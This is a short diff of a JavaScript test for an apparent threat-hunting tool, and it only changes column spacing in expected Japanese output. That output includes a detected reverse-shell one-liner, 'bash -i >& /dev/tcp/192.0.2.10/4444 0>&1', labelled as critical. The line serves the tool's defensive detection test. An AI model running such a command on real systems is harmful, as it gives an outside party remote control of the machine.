@@ -138,7 +138,7 @@ test('the table', async (t) => {
 	await t.test('in Japanese, in columns', () => {
 		const done = hikeshi(['hunt', '--rules', RULES, path]);
 		assert.equal(done.status, 0, done.err);
-		assert.equal(done.out, '2026-11-21 01:02:03Z  重大           外部から遠隔操作するための接続（リバースシェル）  @pc-1\n'
+		assert.equal(done.out, '2026-11-21 01:02:03Z  重大  外部から遠隔操作するための接続（リバースシェル）  @pc-1\n'
 			+ `    ${path}:1  bash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n`);
 		assert.match(done.err, /^ルール \d+ 個、ファイル 1 個、イベント 1 件を .* 秒で検査（毎秒 \d+ 件）、検知 1 件\n検知のあったコンピューター: 1 台\n  重大 +1  ■+\n/);
 	});
